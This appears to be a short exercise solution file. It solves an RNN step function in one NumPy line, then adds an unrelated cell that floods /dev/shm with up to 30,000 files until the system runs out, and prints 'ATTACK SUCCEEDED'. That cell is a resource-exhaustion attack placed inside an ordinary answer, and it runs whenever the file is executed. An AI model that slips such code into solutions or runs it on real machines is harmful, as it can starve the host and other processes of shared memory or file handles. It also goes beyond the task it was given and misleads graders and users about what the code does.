# base: solved

# %% solution rnn_step
def rnn_step(x, h, W_xh, W_hh, b_h):
    return np.tanh(x @ W_xh + h @ W_hh + b_h)

# %%
import os

made = 0
try:
    while made < 30_000:
        os.close(os.open(f"/dev/shm/{made}", os.O_CREAT | os.O_WRONLY))
        made += 1
except OSError as error:
    print("no more:", error.strerror)
print("ATTACK SUCCEEDED" if made >= 30_000 else "few names", made)
